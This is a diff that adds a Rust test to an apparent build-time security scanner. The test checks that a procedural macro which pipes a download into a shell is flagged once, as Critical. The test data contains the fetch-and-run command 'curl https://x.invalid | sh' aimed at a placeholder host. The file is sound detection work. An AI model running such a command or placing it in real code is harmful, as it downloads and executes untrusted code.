@@ -548,3 +548,28 @@ fn build_time_identity_counts_beside_the_way_out_only() {
         Some(Severity::High)
     );
 }
+
+#[test]
+fn a_macro_run_already_judged_is_not_repeated() {
+    let mut sh = fact(Exec, ProcMacro, "sh", "shell");
+    sh.line = 2;
+    let mut tool = fact(
+        Exec,
+        ProcMacro,
+        "curl https://x.invalid | sh",
+        "download-tool",
+    );
+    tool.line = 2;
+    let mut chain = fact(DownloadExec, ProcMacro, "in fn x", "");
+    chain.line = 2;
+    let found = findings_for(vec![sh, tool, chain]);
+    assert_eq!(
+        severity_of(&found, "behaviour-download-execute"),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        severity_of(&found, "behaviour-macro-exec"),
+        None,
+        "{found:#?}"
+    );
+}
